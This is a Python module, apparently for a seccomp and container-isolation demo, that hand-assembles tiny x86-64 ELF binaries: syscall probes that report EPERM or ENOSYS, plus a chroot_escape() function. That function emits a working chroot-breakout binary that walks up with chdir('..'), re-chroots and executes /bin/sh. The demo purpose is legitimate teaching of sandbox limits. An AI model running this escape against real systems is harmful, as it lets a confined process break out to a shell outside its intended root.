"""Tiny static x86-64 programs for the seccomp scenario: busybox has no applet that calls
keyctl(2), userfaultfd(2) and the like, and the demo must not need a compiler on the host.
Each program makes one system call with fixed arguments and exits with the errno it got
(the kernel's, or the seccomp filter's), 0 on success: 1 is EPERM, 38 ENOSYS."""

from __future__ import annotations

import os
import platform
import struct

BASE = 0x400000

# name -> (x86-64 number, three arguments, what the call asks): calls a process may make
# without any capability, so that only a seccomp filter makes them fail with EPERM
CALLS = {
    "keyctl": (250, (0, -3, 0), "keyctl(KEYCTL_GET_KEYRING_ID, session keyring, 0)"),
    "add_key": (248, (0, 0, 0), "add_key(NULL, ...): EFAULT when it reaches the kernel"),
    "userfaultfd": (323, (1, 0, 0), "userfaultfd(UFFD_USER_MODE_ONLY)"),
    "sysfs": (139, (3, 0, 0), "sysfs(3): how many filesystem types"),
    "unshare": (272, (0x10000000, 0, 0), "unshare(CLONE_NEWUSER)"),
}


def _imm(value: int) -> bytes:
    return struct.pack("<I", value & 0xFFFFFFFF)


def program(number: int, args: tuple[int, int, int]) -> bytes:
    code = (b"\xb8" + _imm(number) + b"\xbf" + _imm(args[0]) + b"\xbe" + _imm(args[1])
            + b"\xba" + _imm(args[2])  # mov eax, NR; mov edi/esi/edx, the arguments
            + bytes.fromhex(
                "0f05"        # syscall
                "31ff"        # xor edi, edi        status 0 ...
                "4885c0"      # test rax, rax
                "7904"        # jns +4              ... unless it failed:
                "89c7"        # mov edi, eax
                "f7df"        # neg edi             status = errno
                "b83c000000"  # mov eax, 60         exit
                "0f05"))      # syscall
    ehsize, phsize = 64, 56
    size = ehsize + phsize + len(code)
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, BASE + ehsize + phsize, ehsize, 0, 0, ehsize, phsize,
        1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 5, 0, BASE, BASE, size, size, 0x1000)
    return header + phdr + code


def write_probes(directory: str) -> list[str]:
    """One program per call in CALLS, in directory; [] on a machine that is not x86-64."""
    if platform.machine() not in ("x86_64", "amd64"):
        return []
    for name, (number, args, _) in CALLS.items():
        path = os.path.join(directory, name)
        with open(path, "wb") as f:
            f.write(program(number, args))
        os.chmod(path, 0o755)
    return list(CALLS)


def chroot_escape() -> bytes:
    """The classic escape from a chroot (it needs CAP_SYS_CHROOT): mkdir("e"), chroot("e")
    leaving the working directory outside the new root, chdir("..") 32 times (nothing stops
    a directory that is not under the root from walking up), chroot("."), then exec
    /bin/sh, which reads its commands on stdin. From a pivot_root'ed container whose old
    root is unmounted it climbs only to the container's own root: there is nothing above."""
    ehsize, phsize = 64, 56
    strings = [b"e\0", b"..\0", b".\0", b"/bin/sh\0", b"sh\0"]
    data, offsets = b"", []
    for s in strings:
        offsets.append(len(data))
        data += s
    data += bytes(-len(data) % 8)

    def call(number: int, a1: int = 0, a2: int = 0, a3: int = 0) -> bytes:
        return (b"\xb8" + _imm(number) + b"\xbf" + _imm(a1) + b"\xbe" + _imm(a2)
                + b"\xba" + _imm(a3) + b"\x0f\x05")

    code_len = len(call(0)) * (2 + 32 + 1 + 1 + 1)
    data_at = BASE + ehsize + phsize + code_len
    addr = [data_at + o for o in offsets]
    argv_at = data_at + len(data)
    code = call(83, addr[0], 0o755) + call(161, addr[0])          # mkdir, chroot("e")
    code += call(80, addr[1]) * 32                                # chdir("..")
    code += call(161, addr[2])                                    # chroot(".")
    code += call(59, addr[3], argv_at, 0)                         # execve("/bin/sh")
    code += call(60, 127)                                         # exit(127) if it failed
    assert len(code) == code_len
    body = code + data + struct.pack("<QQ", addr[4], 0)
    size = ehsize + phsize + len(body)
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8) + struct.pack(
        "<HHIQQQIHHHHHH", 2, 0x3E, 1, BASE + ehsize + phsize, ehsize, 0, 0, ehsize, phsize,
        1, 0, 0, 0)
    phdr = struct.pack("<IIQQQQQQ", 1, 7, 0, BASE, BASE, size, size, 0x1000)
    return header + phdr + body
